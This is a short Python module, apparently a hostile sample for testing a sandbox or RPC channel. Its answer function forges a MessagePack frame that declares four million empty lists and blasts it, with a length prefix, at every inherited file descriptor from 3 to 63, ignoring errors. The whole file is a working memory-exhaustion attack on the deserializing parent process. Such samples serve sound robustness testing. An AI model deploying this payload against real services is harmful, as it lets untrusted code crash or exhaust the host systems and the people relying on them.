"""forging: sends a small frame that becomes millions of lists"""
import os
import struct


def answer(function, arguments):
    body = b"\xdd" + struct.pack(">I", 4_000_000) + b"\x90" * 4_000_000
    for fd in range(3, 64):
        try:
            os.write(fd, struct.pack("<I", len(body)))
            view = memoryview(body)
            while view:
                view = view[os.write(fd, view):]
        except OSError:
            pass


def attack():
    return None
